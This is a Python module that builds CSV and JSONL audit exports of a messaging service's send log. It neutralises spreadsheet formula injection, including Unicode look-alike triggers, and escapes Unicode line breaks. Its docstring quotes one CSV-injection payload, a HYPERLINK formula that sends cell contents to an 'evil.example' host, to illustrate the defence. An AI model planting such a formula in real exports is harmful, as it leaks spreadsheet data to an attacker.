"""Audit exports of the send log: which rows, which columns, and the bytes of each format.

A compliance officer exports their tenant's records to answer an auditor or a regulator
(GDPR Art. 5(2), accountability; Art. 30, records of processing). An export shows
exactly what the API shows: the columns are :data:`policies.records.LOG_FIELDS`, the
names and order of an item of ``GET /communication/logs``, and every record passes the
same exit (:func:`policies.disclosure.disclose`, or :func:`policies.disclosure.reveal`
when the officer asked for a reveal the tenant's policy allows).

Two formats:

- **CSV** (RFC 4180): UTF-8 with a byte-order mark first, so that spreadsheets show
  Chinese text correctly; a header row; every line ends with CRLF; a cell holding a
  comma, a double quote, CR or LF is quoted and its quotes doubled; a ``null`` is an
  empty cell. A cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
  return is written with a ``'`` in front (:func:`neutralised`): a spreadsheet would
  otherwise run it as a formula (OWASP, "CSV Injection",
  https://owasp.org/www-community/attacks/CSV_Injection). So is a cell whose first
  character that is not blank (:data:`LEADING_BLANKS`: any Unicode white space, and
  U+FEFF) is one of those or a look-alike that Unicode compatibility folding turns into
  text beginning with one (:data:`LOOKALIKE_TRIGGERS`: fullwidth ``＝＋－＠``, small
  ``﹦﹢﹣﹫``, superscript and subscript ``⁼⁺₌₊``, ``⩵⩶``, U+FB29): spreadsheets strip
  leading blanks and a byte-order mark, and some read such signs as the ASCII ones.
  Content, errors and user ids come from senders and providers, not from the officer,
  so any of them could be ``=HYPERLINK("https://evil.example/?"&A1)``.
- **JSONL**: one JSON object per line, LF-terminated, the shape of one item of the API's
  list (``null`` kept). U+0085, U+2028 and U+2029 are written as escapes, so a reader
  that splits lines on every Unicode line break still sees one record per line.

Everything here is pure: records in, bytes out.
"""

from __future__ import annotations

import enum
import hashlib
import re
from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from datetime import datetime

import msgspec

from policies.channels import Channel, DeliveryStatus
from policies.disclosure import disclosed_values, revealed_values
from policies.instants import rfc3339
from policies.masking import mask_content
from policies.records import LOG_FIELDS, SendRecord

BYTE_ORDER_MARK = "\ufeff"
FORMULA_TRIGGERS: tuple[str, ...] = ("=", "+", "-", "@", "\t", "\r")
"""First characters that make a spreadsheet read a cell as a formula (OWASP)."""
LOOKALIKE_TRIGGERS: tuple[str, ...] = (
    *("\uff1d", "\uff0b", "\uff0d", "\uff20"),  # fullwidth ＝＋－＠
    *("\ufe66", "\ufe62", "\ufe63", "\ufe6b"),  # small ﹦﹢﹣﹫
    *("\u207c", "\u207a", "\u208c", "\u208a"),  # superscript and subscript ⁼⁺₌₊
    *("\u2a75", "\u2a76"),  # ⩵ ⩶: two and three equals signs
    "\ufb29",  # Hebrew alternative plus sign
)
"""Every character that Unicode compatibility folding (NFKC) turns into text beginning
with ``=``, ``+``, ``-`` or ``@``: read as such by spreadsheets that fold them
(``tests/policies/test_exports.py`` derives the set from the Unicode database and
compares)."""
LEADING_BLANKS = (
    " \t\n\x0b\x0c\r\x1c\x1d\x1e\x1f\x85\xa0\u1680"
    "\u2000\u2001\u2002\u2003\u2004\u2005\u2006\u2007\u2008\u2009\u200a"
    "\u2028\u2029\u202f\u205f\u3000\ufeff"
)
"""Skipped before looking for a trigger: every character Unicode calls white space
(``str.isspace``; compatibility folding adds none), which a spreadsheet may trim, and a
byte-order mark (the test derives this set too)."""
_TRIGGER_CHARACTERS = frozenset(("=", "+", "-", "@", *LOOKALIKE_TRIGGERS))
_MAY_TRIGGER = re.compile(
    "[" + re.escape(LEADING_BLANKS + "".join(FORMULA_TRIGGERS) + "".join(LOOKALIKE_TRIGGERS)) + "]"
)
"""A cell whose first character is none of these is never neutralised (one quick test
before the exact rules below, for the common cell)."""
NEUTRALISER = "'"
"""Put in front of a cell that begins with a trigger: spreadsheets show it as text."""


class ExportFormat(enum.StrEnum):
    """The file formats an export is written in."""

    CSV = "csv"
    JSONL = "jsonl"

    @property
    def media_type(self) -> str:
        """The media type of a file of this format (CSV is sent as ``text/csv;
        charset=utf-8``: the charset is added to every ``text/`` type)."""
        return "text/csv" if self is ExportFormat.CSV else "application/x-ndjson"


@dataclass(frozen=True, slots=True, kw_only=True)
class ExportFilters:
    """Which of one tenant's records an export holds: ``since <= created_at < until``,
    and the channel, status and user when given. Rows come ordered by ``created_at``,
    then ``id``."""

    since: datetime | None = None
    until: datetime | None = None
    channel: Channel | None = None
    status: DeliveryStatus | None = None
    user_id: str | None = None

    def problem(self) -> str | None:
        """Why these filters select nothing by construction, or ``None``."""
        if self.since is not None and self.until is not None and self.since > self.until:
            return "'since' must not be later than 'until'"
        return None

    def describe(self) -> dict[str, str | None]:
        """The filters as JSON-able data, for the audit event that records the export."""
        return {
            "since": None if self.since is None else rfc3339(self.since),
            "until": None if self.until is None else rfc3339(self.until),
            "channel": None if self.channel is None else self.channel.value,
            "status": None if self.status is None else self.status.value,
            "user_id": self.user_id,
        }


def neutralised(cell: str) -> str:
    """``cell`` as a spreadsheet may open it: with :data:`NEUTRALISER` in front when it
    begins with one of :data:`FORMULA_TRIGGERS` (OWASP CSV injection), or when its first
    character outside :data:`LEADING_BLANKS` is ``=+-@`` or one of
    :data:`LOOKALIKE_TRIGGERS`; else unchanged."""
    if _MAY_TRIGGER.match(cell) is None:
        return cell
    if cell.startswith(FORMULA_TRIGGERS):
        return NEUTRALISER + cell
    first = cell.lstrip(LEADING_BLANKS)[:1]
    if first in _TRIGGER_CHARACTERS:
        return NEUTRALISER + cell
    return cell


def reason_evidence(reason: str | None) -> dict[str, object] | None:
    """What the audit trail keeps of an officer's free-text reason (the trail cannot be
    erased, the reason may name a person): the text through the one masking function for
    free text (:func:`policies.masking.mask_content`), the SHA-256 of its UTF-8 bytes and
    its length in characters, so an auditor reads the gist and the officer can prove the
    exact text. Never the text itself."""
    if reason is None:
        return None
    return {
        "masked": mask_content(reason),
        "sha256": hashlib.sha256(reason.encode("utf-8", "surrogatepass")).hexdigest(),
        "chars": len(reason),
    }


_NEEDS_QUOTES = re.compile('[,"\r\n]')
_MAY_NEED_WORK = re.compile("^" + _MAY_TRIGGER.pattern + '|[,"\r\n]')
"""A cell that may need neutralising or quoting (else it is written as it is)."""
_MAY_NEED_WORK_AFTER_COMMAS = re.compile("(?:^|,)" + _MAY_TRIGGER.pattern + '|["\r\n]')
"""Cells joined with commas, none of which holds a comma, that may need work: a cell
begins at the start or after a comma."""


def csv_cell(cell: str | None) -> str:
    """One cell as RFC 4180 writes it: neutralised (:func:`neutralised`), and quoted with
    its quotes doubled when it holds a comma, a double quote, CR or LF; ``None`` is empty.
    The same bytes as Python's ``csv`` writer with ``QUOTE_MINIMAL`` (tested against it),
    in a third of the time for the cells of a send record."""
    if cell is None:
        return ""
    if _MAY_NEED_WORK.search(cell) is None:  # the common cell: one test, written as it is
        return cell
    cell = neutralised(cell)
    if _NEEDS_QUOTES.search(cell) is None:
        return cell
    return '"' + cell.replace('"', '""') + '"'


SERVICE_WRITTEN_COLUMNS = frozenset(
    ("id", "channel", "status", "created_at", "sent_at", "updated_at")
)
"""Columns the service writes itself (generated ids, enum values, RFC 3339 times): never a
comma, quote, line break or formula trigger, so written without the checks."""


def csv_record_line(values: Sequence[str | None]) -> str:
    """One record's :data:`policies.records.LOG_FIELDS` values as a CSV line, as
    :func:`csv_lines` writes it (the columns in :data:`SERVICE_WRITTEN_COLUMNS` as they
    are: this runs once per exported row, so the cells are spelt out rather than looped;
    ``tests/policies/test_exports.py`` holds it equal to :func:`csv_lines`)."""
    (
        record_id,
        tenant_id,
        user_id,
        channel,
        provider,
        template_id,
        recipient,
        content,
        status,
        error,
        response,
        created_at,
        sent_at,
        updated_at,
    ) = values
    cell = csv_cell
    # The identifiers between them need nothing done, nearly always: one test for all.
    identifiers = (
        f"{tenant_id or ''},{user_id or ''},{channel},{provider or ''},{template_id or ''}"
    )
    if identifiers.count(",") != 4 or _MAY_NEED_WORK_AFTER_COMMAS.search(identifiers):
        identifiers = (
            f"{cell(tenant_id)},{cell(user_id)},{channel},{cell(provider)},{cell(template_id)}"
        )
    return (
        f"{record_id},{identifiers},{cell(recipient)},{cell(content)},{status},"
        f"{cell(error)},{cell(response)},{created_at},{sent_at or ''},{updated_at}\r\n"
    )


def csv_lines(rows: Iterable[Sequence[str | None]]) -> str:
    """``rows`` as RFC 4180 lines (CRLF, minimal quoting), every cell neutralised; a
    ``None`` is an empty cell (a row of one empty cell is ``""``, else it would read
    back as no cell at all)."""
    return "".join([(",".join([csv_cell(cell) for cell in row]) or '""') + "\r\n" for row in rows])


_LINE_BREAKS_IN_STRINGS = (
    ("\u0085".encode(), b"\\u0085"),
    ("\u2028".encode(), b"\\u2028"),
    ("\u2029".encode(), b"\\u2029"),
)


def _escaped_line_breaks(lines: bytes) -> bytes:
    """The three Unicode line breaks JSON allows raw can only be inside strings, so
    writing them as escapes changes no value."""
    for raw, escaped in _LINE_BREAKS_IN_STRINGS:
        if raw in lines:
            lines = lines.replace(raw, escaped)
    return lines


def jsonl_line(fields: dict[str, str | None]) -> bytes:
    """One JSON object and LF."""
    return _escaped_line_breaks(msgspec.json.encode(fields)) + b"\n"


_JsonlLine = msgspec.defstruct("_JsonlLine", [(name, str | None) for name in LOG_FIELDS], gc=False)
"""One record's :data:`LOG_FIELDS` as a JSON object, in order (null kept); built from
the values by position, which costs a third of building a dict."""
_JSONL = msgspec.json.Encoder()


def jsonl_records(rows: Iterable[Sequence[str | None]]) -> bytes:
    """Rows of :data:`LOG_FIELDS` values as JSONL: the bytes :func:`jsonl_line` writes
    for each row's fields, for a whole chunk at once."""
    return _escaped_line_breaks(_JSONL.encode_lines([_JsonlLine(*values) for values in rows]))


def preamble(export_format: ExportFormat) -> bytes:
    """What a file begins with before its first record: for CSV the byte-order mark and
    the header row, for JSONL nothing."""
    if export_format is ExportFormat.CSV:
        return (BYTE_ORDER_MARK + csv_lines([LOG_FIELDS])).encode()
    return b""


def encode_records(
    records: Iterable[SendRecord], export_format: ExportFormat, *, revealed: bool
) -> bytes:
    """``records`` through the one exit (:func:`disclose`, or :func:`reveal` when
    ``revealed``) and encoded in ``export_format``; no preamble."""
    values = revealed_values if revealed else disclosed_values
    if export_format is ExportFormat.CSV:
        return "".join([csv_record_line(values(record)) for record in records]).encode()
    return jsonl_records([values(record) for record in records])


_UNSAFE_IN_FILENAME = re.compile(r"[^A-Za-z0-9_.-]+")


def export_filename(tenant_id: str, export_format: ExportFormat, at: datetime) -> str:
    """The name an export is offered under: ``communication-logs_<tenant>_<UTC time>.<ext>``,
    with anything but ASCII letters, digits, ``_``, ``.``, ``-`` in the tenant id replaced
    by ``_`` (it goes into a ``Content-Disposition`` header)."""
    tenant = _UNSAFE_IN_FILENAME.sub("_", tenant_id)[:64] or "tenant"
    stamp = rfc3339(at.replace(microsecond=0)).replace("-", "").replace(":", "")
    return f"communication-logs_{tenant}_{stamp}.{export_format.value}"
